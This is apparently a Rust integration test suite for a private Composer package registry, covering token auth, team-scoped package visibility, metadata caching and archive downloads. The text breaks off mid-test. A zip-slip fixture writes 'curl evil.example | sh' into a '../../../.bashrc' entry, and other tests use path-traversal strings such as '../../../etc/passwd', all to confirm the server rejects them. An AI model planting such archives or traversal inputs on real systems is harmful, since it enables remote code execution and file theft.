//! The Composer server end to end through `router(state).oneshot(req)`, on a
//! tempdir store filled by applying a plan, as the engine would.

use axum::Router;
use axum::body::{Body, Bytes};
use axum::http::{Request, Response, StatusCode, header};
use base64::Engine;
use packyard::composer::metadata::{self, Entry};
use packyard::composer::{ArchiveSource, Catalog, DistCache, DistError};
use packyard::domain::*;
use packyard::server::{AppState, AuthFailures, flush_token_use, router};
use packyard::store::{Store, token_hash};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::io::Write;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use tokio::sync::{Notify, Semaphore};
use tower::ServiceExt;

const PUBLIC_URL: &str = "http://127.0.0.1:8082";
const ORG_TOKEN: &str = "org-token-0123456789";
const TEAM_TOKEN: &str = "team-token-0123456789";
const EXPIRED_TOKEN: &str = "expired-token-0123456789";
const SYNCED_AT: i64 = 1_000_000;
const TOKENS_AT: i64 = 500_000;

const V100: &str = "1000000000000000000000000000000000000000";
const V120: &str = "1200000000000000000000000000000000000000";
const MAIN: &str = "a000000000000000000000000000000000000000";
const ONE_X: &str = "b000000000000000000000000000000000000000";
const SECRET_V1: &str = "c000000000000000000000000000000000000000";

// ---------------------------------------------------------------- fixture

fn sync() -> SyncId {
    SyncId::new("gh").unwrap()
}

fn name(n: &str) -> PackageName {
    PackageName::new(n).unwrap()
}

fn team_key() -> TeamKey {
    TeamKey {
        sync: sync(),
        remote: RemoteId("7".into()),
    }
}

fn package(n: &str, repo: &str) -> Package {
    Package {
        name: name(n),
        origin: sync(),
        repo: RemoteId(repo.into()),
        repo_full_name: n.into(),
        clone_url: format!("https://git.example.test/{n}.git"),
        html_url: format!("https://git.example.test/{n}"),
        description: None,
        default_branch: "main".into(),
        host: None,
        archived: false,
        abandoned: None,
        manifest_missing: false,
    }
}

fn version(
    pkg: &str,
    pretty: &str,
    normalized: &str,
    kind: VersionKind,
    commit: &str,
    manifest: Value,
) -> Version {
    let Value::Object(manifest) = manifest else {
        panic!("manifest must be an object")
    };
    Version {
        package: name(pkg),
        version: pretty.into(),
        normalized: normalized.into(),
        kind,
        ref_name: pretty.trim_start_matches("dev-").into(),
        commit: commit.into(),
        default_branch: pretty == "dev-main",
        manifest,
    }
}

fn widget_versions() -> Vec<Version> {
    let base = json!({"name": "acme/widget", "type": "library", "license": ["MIT"],
                      "autoload": {"psr-4": {"Acme\\Widget\\": "src/"}}});
    let with = |extra: Value| {
        let mut m = base.clone();
        m.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        m
    };
    vec![
        version(
            "acme/widget",
            "v1.0.0",
            "1.0.0.0",
            VersionKind::Tag,
            V100,
            base.clone(),
        ),
        version(
            "acme/widget",
            "v1.2.0",
            "1.2.0.0",
            VersionKind::Tag,
            V120,
            with(json!({"require": {"acme/helper": "^1.0"}, "version": "1.2.0"})),
        ),
        version(
            "acme/widget",
            "dev-main",
            "dev-main",
            VersionKind::Branch,
            MAIN,
            with(json!({"extra": {"branch-alias": {"dev-main": "2.x-dev"}}})),
        ),
        version(
            "acme/widget",
            "1.x-dev",
            "1.9999999.9999999.9999999-dev",
            VersionKind::Branch,
            ONE_X,
            base,
        ),
    ]
}

fn initial_plan() -> Vec<Change> {
    let team = Team {
        key: team_key(),
        kind: TeamKind::Remote,
        slug: "backend".into(),
        name: "Backend".into(),
        members: BTreeMap::new(),
        repos: BTreeMap::from([(RemoteId("1".into()), Permission::Read)]),
    };
    let mut changes = vec![
        Change::PutTeam(team),
        Change::PutPackage(package("acme/widget", "1")),
        Change::PutPackage(package("acme/secret", "2")),
        Change::PutVersion(version(
            "acme/secret",
            "1.0.0",
            "1.0.0.0",
            VersionKind::Tag,
            SECRET_V1,
            json!({}),
        )),
    ];
    changes.extend(widget_versions().into_iter().map(Change::PutVersion));
    changes
}

/// A code host stand-in that counts fetches. With a gate, a fetch waits for
/// a permit after announcing itself on `entered`.
struct FakeArchives {
    calls: AtomicUsize,
    body: Result<Bytes, String>,
    gate: Option<Semaphore>,
    entered: Notify,
}

impl FakeArchives {
    fn serving(body: Result<Bytes, String>) -> Self {
        Self {
            calls: AtomicUsize::new(0),
            body,
            gate: None,
            entered: Notify::new(),
        }
    }

    fn calls(&self) -> usize {
        self.calls.load(Ordering::SeqCst)
    }
}

#[async_trait::async_trait]
impl ArchiveSource for FakeArchives {
    async fn fetch_archive(&self, _package: &Package, _commit: &str) -> Result<Bytes, String> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        self.entered.notify_one();
        if let Some(gate) = &self.gate {
            let _permit = gate.acquire().await.map_err(|e| e.to_string())?;
        }
        self.body.clone()
    }
}

/// A GitHub-style zipball: one top-level directory.
fn zipball() -> Bytes {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    zip.add_directory("acme-widget-a000000/", options).unwrap();
    zip.start_file("acme-widget-a000000/composer.json", options)
        .unwrap();
    zip.write_all(br#"{"name":"acme/widget"}"#).unwrap();
    Bytes::from(zip.finish().unwrap().into_inner())
}

/// An archive whose second entry escapes the directory Composer unpacks into.
fn zip_slip() -> Bytes {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    zip.start_file("acme-widget-a000000/composer.json", options)
        .unwrap();
    zip.write_all(br#"{"name":"acme/widget"}"#).unwrap();
    zip.start_file("acme-widget-a000000/../../../.bashrc", options)
        .unwrap();
    zip.write_all(b"curl evil.example | sh").unwrap();
    Bytes::from(zip.finish().unwrap().into_inner())
}

struct Fixture {
    /// Keeps the data dir alive for the fixture's lifetime.
    _dir: tempfile::TempDir,
    store: Store,
    dists: DistCache,
    archives: Arc<FakeArchives>,
}

impl Fixture {
    fn new() -> Self {
        Self::with_archives(FakeArchives::serving(Ok(zipball())))
    }

    fn with_archives(archives: FakeArchives) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::open(dir.path()).unwrap();
        let dists = DistCache::new(store.clone());
        let fixture = Self {
            _dir: dir,
            store,
            dists,
            archives: Arc::new(archives),
        };
        fixture.apply(initial_plan(), SYNCED_AT);
        for (id, secret, scope, expires_at) in [
            ("org", ORG_TOKEN, TokenScope::OrgWide, None),
            (
                "team",
                TEAM_TOKEN,
                TokenScope::Team { team: team_key() },
                None,
            ),
            (
                "expired",
                EXPIRED_TOKEN,
                TokenScope::OrgWide,
                Some(Timestamp(TOKENS_AT + 1)),
            ),
        ] {
            fixture
                .store
                .apply_new_token(&Token {
                    id: id.into(),
                    label: id.into(),
                    scope,
                    hash: token_hash(secret),
                    created_at: Timestamp(TOKENS_AT),
                    last_used: None,
                    expires_at,
                })
                .unwrap();
        }
        fixture
    }

    fn apply(&self, changes: Vec<Change>, at: i64) {
        let plan = Plan {
            changes,
            ..Plan::default()
        };
        self.store
            .apply(&plan, self.store.revision().unwrap(), Timestamp(at))
            .unwrap();
    }

    /// The server over a catalog of the store as it is now, following it.
    async fn router(&self) -> Router {
        router(self.state().await)
    }

    async fn state(&self) -> AppState {
        AppState {
            catalog: Catalog::open(self.store.clone(), PUBLIC_URL.into())
                .await
                .unwrap(),
            dists: self.dists.clone(),
            archives: self.archives.clone(),
            auth_failures: Arc::new(AuthFailures::new(Vec::new())),
            public_url: PUBLIC_URL.into(),
        }
    }
}

// ---------------------------------------------------------------- requests

fn basic(token: &str) -> String {
    let pair = format!("composer:{token}");
    format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(pair)
    )
}

fn get(path: &str, authorization: Option<&str>) -> Request<Body> {
    let mut builder = Request::get(path);
    if let Some(value) = authorization {
        builder = builder.header(header::AUTHORIZATION, value);
    }
    builder.body(Body::empty()).unwrap()
}

fn get_since(path: &str, authorization: Option<&str>, since: &str) -> Request<Body> {
    let mut request = get(path, authorization);
    request
        .headers_mut()
        .insert(header::IF_MODIFIED_SINCE, since.parse().unwrap());
    request
}

async fn send(router: &Router, request: Request<Body>) -> Response<Body> {
    router.clone().oneshot(request).await.unwrap()
}

async fn body(response: Response<Body>) -> Bytes {
    axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap()
}

async fn json_body(response: Response<Body>) -> Value {
    serde_json::from_slice(&body(response).await).unwrap()
}

fn last_modified(response: &Response<Body>) -> String {
    response.headers()[header::LAST_MODIFIED]
        .to_str()
        .unwrap()
        .to_owned()
}

/// The expanded entries of a p2 document.
fn expanded(doc: &Value, package: &str) -> Vec<Entry> {
    assert_eq!(doc["minified"], metadata::MINIFIED);
    let list: Vec<Entry> = serde_json::from_value(doc["packages"][package].clone()).unwrap();
    metadata::expand(&list)
}

fn sha1_hex(bytes: &[u8]) -> String {
    use sha1::Digest;
    hex::encode(sha1::Sha1::digest(bytes))
}

// ---------------------------------------------------------------- auth

#[tokio::test]
async fn health_answers_ok_when_no_token_is_sent() {
    let f = Fixture::new();
    let response = send(&f.router().await, get("/health", None)).await;
    assert_eq!(response.status(), StatusCode::OK);
}

#[tokio::test]
async fn request_is_refused_with_basic_challenge_when_token_is_missing() {
    let f = Fixture::new();
    let response = send(&f.router().await, get("/packages.json", None)).await;
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(
        response.headers()[header::WWW_AUTHENTICATE],
        "Basic realm=\"packyard\""
    );
    let message = json_body(response).await["message"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(message.contains("auth.json"), "{message}");
    assert!(message.contains("http-basic"), "{message}");
    assert!(message.contains("\"127.0.0.1:8082\""), "{message}");
}

#[tokio::test]
async fn request_is_refused_when_token_has_expired() {
    let f = Fixture::new();
    let response = send(
        &f.router().await,
        get("/packages.json", Some(&basic(EXPIRED_TOKEN))),
    )
    .await;
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn request_is_refused_when_token_is_unknown() {
    let f = Fixture::new();
    let router = f.router().await;
    for auth in [
        basic("not-a-token"),
        "Bearer not-a-token".into(),
        "Digest x".into(),
    ] {
        for path in [
            "/packages.json",
            "/p2/acme/widget.json",
            &format!("/dists/acme/widget/{V100}.zip"),
        ] {
            let response = send(&router, get(path, Some(&auth))).await;
            assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{path}");
            assert!(response.headers().contains_key(header::WWW_AUTHENTICATE));
            let text = String::from_utf8(body(response).await.to_vec()).unwrap();
            assert!(!text.contains("not-a-token"), "the token is echoed: {text}");
        }
    }
    assert_eq!(f.archives.calls(), 0);
}

#[tokio::test]
async fn token_is_accepted_when_sent_as_basic_password_or_bearer() {
    let f = Fixture::new();
    let router = f.router().await;
    for auth in [basic(ORG_TOKEN), format!("Bearer {ORG_TOKEN}")] {
        let response = send(&router, get("/packages.json", Some(&auth))).await;
        assert_eq!(response.status(), StatusCode::OK, "{auth}");
    }
}

#[tokio::test]
async fn token_use_is_written_when_flushed_not_by_the_request() {
    let f = Fixture::new();
    let state = f.state().await;
    let router = router(state.clone());
    let last_used = || {
        f.store
            .load_token_by_hash(&token_hash(ORG_TOKEN))
            .unwrap()
            .unwrap()
            .last_used
    };
    for _ in 0..3 {
        let response = send(&router, get("/packages.json", Some(&basic(ORG_TOKEN)))).await;
        assert_eq!(response.status(), StatusCode::OK);
    }
    assert_eq!(last_used(), None, "a request wrote to the store");
    assert_eq!(flush_token_use(&state.catalog, &f.store).unwrap(), 1);
    let written = last_used().expect("the flush records the use");
    assert!(written.0 > TOKENS_AT);
    // Nothing new to write until the token is used again.
    assert_eq!(flush_token_use(&state.catalog, &f.store).unwrap(), 0);
    let team = f
        .store
        .load_token_by_hash(&token_hash(TEAM_TOKEN))
        .unwrap()
        .unwrap();
    assert_eq!(team.last_used, None, "an unused token is left alone");
}

// ---------------------------------------------------------------- packages.json

#[tokio::test]
async fn packages_json_lists_only_visible_packages_when_token_is_team_scoped() {
    let f = Fixture::new();
    let router = f.router().await;
    let team =
        json_body(send(&router, get("/packages.json", Some(&basic(TEAM_TOKEN)))).await).await;
    let org = json_body(send(&router, get("/packages.json", Some(&basic(ORG_TOKEN)))).await).await;
    assert_eq!(team["available-packages"], json!(["acme/widget"]));
    assert_eq!(
        org["available-packages"],
        json!(["acme/secret", "acme/widget"])
    );
    assert_eq!(
        org["metadata-url"],
        "http://127.0.0.1:8082/p2/%package%.json"
    );
    assert_eq!(org["notify-batch"], "http://127.0.0.1:8082/downloads/");
    assert_eq!(org["packages"], json!([]));
}

#[tokio::test]
async fn packages_json_answers_304_when_unchanged_and_200_when_catalog_changed() {
    let f = Fixture::new();
    let router = f.router().await;
    let auth = basic(TEAM_TOKEN);
    let first = send(&router, get("/packages.json", Some(&auth))).await;
    assert_eq!(first.headers()[header::CONTENT_TYPE], "application/json");
    let stamp = last_modified(&first);

    let again = send(&router, get_since("/packages.json", Some(&auth), &stamp)).await;
    assert_eq!(again.status(), StatusCode::NOT_MODIFIED);
    assert!(body(again).await.is_empty());

    // The team gains access to acme/secret: its visible set changed.
    let mut team = f.store.load_teams(None).unwrap().remove(0);
    team.repos.insert(RemoteId("2".into()), Permission::Read);
    f.apply(vec![Change::PutTeam(team)], SYNCED_AT + 10);
    let changed = send(&router, get_since("/packages.json", Some(&auth), &stamp)).await;
    assert_eq!(changed.status(), StatusCode::OK);
    assert_ne!(last_modified(&changed), stamp);
    let doc = json_body(changed).await;
    assert_eq!(
        doc["available-packages"],
        json!(["acme/secret", "acme/widget"])
    );
}

#[tokio::test]
async fn metadata_is_refused_not_304_when_if_modified_since_comes_without_token() {
    let f = Fixture::new();
    let router = f.router().await;
    let future = "Fri, 01 Jan 2100 00:00:00 GMT";
    for path in [
        "/packages.json",
        "/p2/acme/widget.json",
        "/p2/acme/widget~dev.json",
    ] {
        let response = send(&router, get_since(path, None, future)).await;
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{path}");
        let response = send(&router, get_since(path, Some("Bearer wrong"), future)).await;
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{path}");
    }
    // A token that may not see the package gets the 404, not a 304.
    let hidden = send(
        &router,
        get_since("/p2/acme/secret.json", Some(&basic(TEAM_TOKEN)), future),
    )
    .await;
    assert_eq!(hidden.status(), StatusCode::NOT_FOUND);
}

// ---------------------------------------------------------------- p2

#[tokio::test]
async fn p2_is_the_same_404_when_package_is_hidden_or_unknown() {
    let f = Fixture::new();
    let router = f.router().await;
    let auth = basic(TEAM_TOKEN);
    let mut answers = Vec::new();
    for path in [
        "/p2/acme/secret.json",
        "/p2/acme/secret~dev.json",
        "/p2/acme/nonexistent.json",
        "/p2/acme/nonexistent~dev.json",
        "/p2/ACME/nonexistent.json",
        "/p2/acme/widget.txt",
        "/p2/acme/in..valid.json",
    ] {
        let response = send(&router, get(path, Some(&auth))).await;
        answers.push((response.status(), body(response).await));
    }
    assert_eq!(answers[0].0, StatusCode::NOT_FOUND);
    assert!(answers.iter().all(|a| *a == answers[0]), "{answers:?}");
    // The org token sees the package the team token may not.
    let org = send(
        &router,
        get("/p2/acme/secret.json", Some(&basic(ORG_TOKEN))),
    )
    .await;
    assert_eq!(org.status(), StatusCode::OK);
}

#[tokio::test]
async fn p2_answers_304_when_unchanged_and_200_after_a_later_change() {
    let f = Fixture::new();
    let router = f.router().await;
    let auth = basic(TEAM_TOKEN);
    let first = send(&router, get("/p2/acme/widget.json", Some(&auth))).await;
    assert_eq!(first.status(), StatusCode::OK);
    assert_eq!(first.headers()[header::CONTENT_TYPE], "application/json");
    let stamp = last_modified(&first);
    assert_eq!(
        stamp,
        httpdate::fmt_http_date(
            std::time::UNIX_EPOCH + std::time::Duration::from_secs(SYNCED_AT as u64)
        )
    );

    let again = send(
        &router,
        get_since("/p2/acme/Widget.json", Some(&auth), &stamp),
    )
    .await;
    assert_eq!(again.status(), StatusCode::NOT_MODIFIED);
    assert_eq!(last_modified(&again), stamp);
    assert!(body(again).await.is_empty());

    let newer = version(
        "acme/widget",
        "v1.3.0",
        "1.3.0.0",
        VersionKind::Tag,
        "d000000000000000000000000000000000000000",
        json!({}),
    );
    f.apply(vec![Change::PutVersion(newer)], SYNCED_AT + 60);
    let changed = send(
        &router,
        get_since("/p2/acme/widget.json", Some(&auth), &stamp),
    )
    .await;
    assert_eq!(changed.status(), StatusCode::OK);
    assert_ne!(last_modified(&changed), stamp);
    let versions: Vec<Value> = expanded(&json_body(changed).await, "acme/widget")
        .iter()
        .map(|e| e["version"].clone())
        .collect();
    assert_eq!(
        versions,
        [json!("v1.3.0"), json!("v1.2.0"), json!("v1.0.0")]
    );
}

#[tokio::test]
async fn p2_expands_to_the_full_entries_when_minified() {
    let f = Fixture::new();
    let doc = json_body(
        send(
            &f.router().await,
            get("/p2/acme/widget.json", Some(&basic(ORG_TOKEN))),
        )
        .await,
    )
    .await;
    let package = package("acme/widget", "1");
    let versions = widget_versions();
    let expected: Vec<Entry> = [&versions[1], &versions[0]]
        .into_iter()
        .map(|v| metadata::version_entry(PUBLIC_URL, &package, v, ""))
        .collect();
    assert_eq!(expanded(&doc, "acme/widget"), expected);
    // Minified: the second entry omits what it shares with the first and
    // unsets what it lacks.
    let second = &doc["packages"]["acme/widget"][1];
    assert_eq!(second["require"], "__unset");
    assert!(second.get("license").is_none());
    assert_eq!(expected[0]["version"], "v1.2.0", "newest first");
    assert_eq!(
        expected[0]["dist"]["url"],
        format!("{PUBLIC_URL}/dists/acme/widget/{V120}.zip")
    );
}

#[tokio::test]
async fn p2_dev_holds_branches_with_default_branch_and_alias_when_requested() {
    let f = Fixture::new();
    let doc = json_body(
        send(
            &f.router().await,
            get("/p2/acme/widget~dev.json", Some(&basic(TEAM_TOKEN))),
        )
        .await,
    )
    .await;
    let entries = expanded(&doc, "acme/widget");
    let versions: Vec<&str> = entries
        .iter()
        .map(|e| e["version"].as_str().unwrap())
        .collect();
    assert_eq!(versions, ["1.x-dev", "dev-main"]);
    let main = &entries[1];
    assert_eq!(main["default-branch"], true);
    assert_eq!(main["extra"]["branch-alias"]["dev-main"], "2.x-dev");
    assert_eq!(main["source"]["reference"], MAIN);
    assert!(!entries[0].contains_key("default-branch"));
    let tags = json_body(
        send(
            &f.router().await,
            get("/p2/acme/widget.json", Some(&basic(TEAM_TOKEN))),
        )
        .await,
    )
    .await;
    assert!(
        expanded(&tags, "acme/widget")
            .iter()
            .all(|e| !e.contains_key("default-branch"))
    );
}

// ---------------------------------------------------------------- dists

#[tokio::test]
async fn dist_shasum_in_p2_matches_the_served_bytes_when_fetched_once() {
    let f = Fixture::new();
    let router = f.router().await;
    let auth = basic(TEAM_TOKEN);
    let path = format!("/dists/acme/widget/{V120}.zip");

    let before = json_body(send(&router, get("/p2/acme/widget.json", Some(&auth))).await).await;
    assert_eq!(expanded(&before, "acme/widget")[0]["dist"]["shasum"], "");

    let response = send(&router, get(&path, Some(&auth))).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()[header::CONTENT_TYPE], "application/zip");
    let served = body(response).await;
    assert_eq!(served, zipball());

    let again = body(send(&router, get(&path, Some(&format!("Bearer {TEAM_TOKEN}")))).await).await;
    assert_eq!(again, served);
    assert_eq!(
        f.archives.calls(),
        1,
        "the second download is served from the cache"
    );

    let after = json_body(send(&router, get("/p2/acme/widget.json", Some(&auth))).await).await;
    let entry = &expanded(&after, "acme/widget")[0];
    assert_eq!(entry["dist"]["reference"], V120);
    assert_eq!(entry["dist"]["shasum"], sha1_hex(&served));
}

#[tokio::test]
async fn dist_is_404_when_commit_is_not_a_published_version_of_the_package() {
    let f = Fixture::new();
    let router = f.router().await;
    let auth = basic(ORG_TOKEN);
    for commit in [
        SECRET_V1,
        "abcdef0",
        "d000000000000000000000000000000000000000",
    ] {
        let response = send(
            &router,
            get(&format!("/dists/acme/widget/{commit}.zip"), Some(&auth)),
        )
        .await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{commit}");
    }
    let hidden = send(
        &router,
        get(
            &format!("/dists/acme/secret/{SECRET_V1}.zip"),
            Some(&basic(TEAM_TOKEN)),
        ),
    )
    .await;
    assert_eq!(hidden.status(), StatusCode::NOT_FOUND);
    assert_eq!(f.archives.calls(), 0);
}

#[tokio::test]
async fn dist_is_404_when_commit_looks_like_a_path() {
    let f = Fixture::new();
    let router = f.router().await;
    let auth = basic(ORG_TOKEN);
    for file in [
        "..%2F..%2Fstore%2Fdb.zip",
        "%2E%2E.zip",
        "..zip",
        &format!("{V100}.zip%00"),
        &format!("{V100}.tar"),
        &format!("..%2F{V100}.zip"),
    ] {
        let response = send(
            &router,
            get(&format!("/dists/acme/widget/{file}"), Some(&auth)),
        )
        .await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{file}");
    }
    assert_eq!(f.archives.calls(), 0);
}

#[tokio::test]
async fn dist_is_502_naming_the_problem_and_nothing_is_kept_when_the_host_sends_a_bad_archive() {
    for (body_result, expected) in [
        (
            Err("GitHub answered 404 for acme/widget".to_owned()),
            "GitHub answered 404",
        ),
        (
            Ok(Bytes::from_static(b"<html>login</html>")),
            "not a readable zip archive",
        ),
        (
            Ok(zip_slip()),
            "\"acme-widget-a000000/../../../.bashrc\" would be unpacked outside the package directory",
        ),
    ] {
        let f = Fixture::with_archives(FakeArchives::serving(body_result));
        let response = send(
            &f.router().await,
            get(
                &format!("/dists/acme/widget/{V100}.zip"),
                Some(&basic(ORG_TOKEN)),
            ),
        )
        .await;
        assert_eq!(response.status(), StatusCode::BAD_GATEWAY);
        let message = json_body(response).await["message"]
            .as_str()
            .unwrap()
            .to_owned();
        assert!(message.contains(expected), "{message}");
        assert!(message.contains("acme/widget"), "{message}");
        assert!(!f.dists.path_for(&name("acme/widget"), V100).exists());
    }
}

#[tokio::test]
async fn concurrent_requests_fetch_once_when_archive_is_not_cached() {
    let mut archives = FakeArchives::serving(Ok(zipball()));
    archives.gate = Some(Semaphore::new(0));
    let f = Fixture::with_archives(archives);
    let widget = package("acme/widget", "1");
    let fetches = (0..4).map(|_| f.dists.get_or_fetch(&widget, MAIN, f.archives.as_ref()));
    // The first fetch is held until it has started, while the other lookups
    // are already waiting, so without single-flight they would fetch too.
    let release = async {
        f.archives.entered.notified().await;
        tokio::task::yield_now().await;
        f.archives.gate.as_ref().unwrap().add_permits(4);
    };
    let (results, ()) = tokio::join!(futures::future::join_all(fetches), release);
    assert_eq!(f.archives.calls(), 1);
    let infos: Vec<_> = results.into_iter().map(|r| r.unwrap().1).collect();
    assert!(infos.iter().all(|i| *i == infos[0]));
    assert_eq!(infos[0].sha1, sha1_hex(&zipball()));
    assert_eq!(
        f.store.load_dist(&widget.name, MAIN).unwrap(),
        Some(infos[0].clone())
    );
}

#[tokio::test]
async fn cached_archive_is_reused_when_the_cache_is_reopened() {
    let f = Fixture::new();
    let widget = package("acme/widget", "1");
    let (path, first) = f
        .dists
        .get_or_fetch(&widget, V100, f.archives.as_ref())
        .await
        .unwrap();
    let reopened = DistCache::new(f.store.clone());
    let (again, second) = reopened
        .get_or_fetch(&widget, V100, f.archives.as_ref())
        .await
        .unwrap();
    assert_eq!((again, second), (path, first));
    assert_eq!(f.archives.calls(), 1);
}

#[tokio::test]
async fn cache_refuses_commit_before_fetching_when_it_is_not_hex() {
    let f = Fixture::new();
    let widget = package("acme/widget", "1");
    for commit in ["../../../etc/passwd", "..", "abc/def0123", "a0000000/../x"] {
        let err = f
            .dists
            .get_or_fetch(&widget, commit, f.archives.as_ref())
            .await
            .unwrap_err();
        assert!(matches!(err, DistError::InvalidCommit), "{commit}: {err}");
    }
    assert_eq!(f.archives.calls(), 0);
}

// ---------------------------------------------------------------- the rest

#[tokio::test]
async fn notify_batch_is_accepted_when_authenticated_and_refused_when_too_large() {
    let f = Fixture::new();
    let router = f.router().await;
    let post = |body: Vec<u8>, auth: Option<&str>| {
        let mut builder =
            Request::post("/downloads/").header(header::CONTENT_TYPE, "application/json");
        if let Some(auth) = auth {
            builder = builder.header(header::AUTHORIZATION, auth);
        }
        builder.body(Body::from(body)).unwrap()
    };
    let batch = br#"{"downloads":[{"name":"acme/widget","version":"1.2.0.0"}]}"#.to_vec();
    let auth = basic(TEAM_TOKEN);
    assert_eq!(
        send(&router, post(batch.clone(), Some(&auth)))
            .await
            .status(),
        StatusCode::NO_CONTENT
    );
    assert_eq!(
        send(&router, post(batch, None)).await.status(),
        StatusCode::UNAUTHORIZED
    );
    let huge = vec![b' '; 1024 * 1024];
    assert_eq!(
        send(&router, post(huge, Some(&auth))).await.status(),
        StatusCode::PAYLOAD_TOO_LARGE
    );
}

#[tokio::test]
async fn unknown_route_is_404_when_requested() {
    let f = Fixture::new();
    let router = f.router().await;
    for path in ["/", "/p2/acme", "/p/acme/widget.json", "/dists/acme/widget"] {
        let response = send(&router, get(path, Some(&basic(ORG_TOKEN)))).await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{path}");
    }
}

// ---------------------------------------------------------------- the published catalog

fn get_with(
    path: &str,
    authorization: &str,
    extra: &[(header::HeaderName, &str)],
) -> Request<Body> {
    let mut request = get(path, Some(authorization));
    for (name, value) in extra {
        request
            .headers_mut()
            .insert(name.clone(), value.parse().unwrap());
    }
    request
}

#[tokio::test]
async fn metadata_is_gzipped_when_accepted_and_304_when_the_etag_or_date_matches() {
    use std::io::Read;
    let f = Fixture::new();
    let router = f.router().await;
    let auth = basic(TEAM_TOKEN);
    for path in [
        "/packages.json",
        "/p2/acme/widget.json",
        "/p2/acme/widget~dev.json",
    ] {
        let plain = send(&router, get(path, Some(&auth))).await;
        assert_eq!(plain.status(), StatusCode::OK, "{path}");
        assert!(!plain.headers().contains_key(header::CONTENT_ENCODING));
        assert_eq!(
            plain.headers()[header::VARY],
            "Authorization, Accept-Encoding"
        );
        let etag = plain.headers()[header::ETAG].to_str().unwrap().to_owned();
        let stamp = last_modified(&plain);
        let plain = body(plain).await;

        let zipped = send(
            &router,
            get_with(
                path,
                &auth,
                &[(header::ACCEPT_ENCODING, "deflate, gzip, br, zstd")],
            ),
        )
        .await;
        assert_eq!(zipped.headers()[header::CONTENT_ENCODING], "gzip", "{path}");
        assert_eq!(zipped.headers()[header::ETAG], etag.as_str());
        let mut unzipped = Vec::new();
        flate2::read::GzDecoder::new(body(zipped).await.as_ref())
            .read_to_end(&mut unzipped)
            .unwrap();
        assert_eq!(unzipped, plain, "{path}");

        for conditional in [
            (header::IF_NONE_MATCH, etag.as_str()),
            (header::IF_MODIFIED_SINCE, stamp.as_str()),
        ] {
            let again = send(
                &router,
                get_with(path, &auth, std::slice::from_ref(&conditional)),
            )
            .await;
            assert_eq!(
                again.status(),
                StatusCode::NOT_MODIFIED,
                "{path} {conditional:?}"
            );
            assert_eq!(again.headers()[header::ETAG], etag.as_str());
            assert!(body(again).await.is_empty());
        }
        // A tag that does not match wins over a date that would.
        let other = send(
            &router,
            get_with(
                path,
                &auth,
                &[
                    (header::IF_NONE_MATCH, "\"0000000000000000\""),
                    (header::IF_MODIFIED_SINCE, "Fri, 01 Jan 2100 00:00:00 GMT"),
                ],
            ),
        )
        .await;
        assert_eq!(other.status(), StatusCode::OK, "{path}");
    }
    // A token that may not see the package gets the 404 even with its tag.
    let org = send(
        &router,
        get("/p2/acme/secret.json", Some(&basic(ORG_TOKEN))),
    )
    .await;
    let etag = org.headers()[header::ETAG].to_str().unwrap().to_owned();
    let hidden = send(
        &router,
        get_with(
            "/p2/acme/secret.json",
            &auth,
            &[(header::IF_NONE_MATCH, &etag)],
        ),
    )
    .await;
    assert_eq!(hidden.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn store_change_is_served_by_the_next_request_after_its_commit() {
    let f = Fixture::new();
    let router = f.router().await;
    let auth = basic(TEAM_TOKEN);
    let before = json_body(send(&router, get("/packages.json", Some(&auth))).await).await;
    assert_eq!(before["available-packages"], json!(["acme/widget"]));
    // No yield between the commit and the request: the request must wait
    // for the rebuild rather than answer from the older catalog.
    let mut team = f.store.load_teams(None).unwrap().remove(0);
    team.repos.insert(RemoteId("2".into()), Permission::Read);
    f.apply(vec![Change::PutTeam(team.clone())], SYNCED_AT + 10);
    let after = json_body(send(&router, get("/packages.json", Some(&auth))).await).await;
    assert_eq!(
        after["available-packages"],
        json!(["acme/secret", "acme/widget"])
    );
    let secret = send(&router, get("/p2/acme/secret.json", Some(&auth))).await;
    assert_eq!(secret.status(), StatusCode::OK);

    team.repos.clear();
    f.apply(vec![Change::PutTeam(team)], SYNCED_AT + 20);
    let gone = send(&router, get("/p2/acme/widget.json", Some(&auth))).await;
    assert_eq!(
        gone.status(),
        StatusCode::NOT_FOUND,
        "access removed by a sync"
    );

    f.apply(
        vec![Change::DeletePackage(name("acme/secret"))],
        SYNCED_AT + 30,
    );
    let deleted = send(
        &router,
        get("/p2/acme/secret.json", Some(&basic(ORG_TOKEN))),
    )
    .await;
    assert_eq!(deleted.status(), StatusCode::NOT_FOUND, "package removed");
}

#[tokio::test]
async fn revoked_token_is_refused_by_the_next_request() {
    let f = Fixture::new();
    let router = f.router().await;
    let auth = basic(ORG_TOKEN);
    assert_eq!(
        send(&router, get("/packages.json", Some(&auth)))
            .await
            .status(),
        StatusCode::OK
    );
    assert!(f.store.apply_token_revoked("org").unwrap());
    for path in [
        "/packages.json",
        "/p2/acme/widget.json",
        &format!("/dists/acme/widget/{V100}.zip"),
    ] {
        let response = send(&router, get(path, Some(&auth))).await;
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{path}");
    }
    assert_eq!(f.archives.calls(), 0);
}

#[tokio::test]
async fn token_is_refused_once_it_expires_without_a_store_change() {
    let f = Fixture::new();
    let now = Timestamp::now();
    f.store
        .apply_new_token(&Token {
            id: "soon".into(),
            label: "soon".into(),
            scope: TokenScope::OrgWide,
            hash: token_hash("soon-expiring-token-0123"),
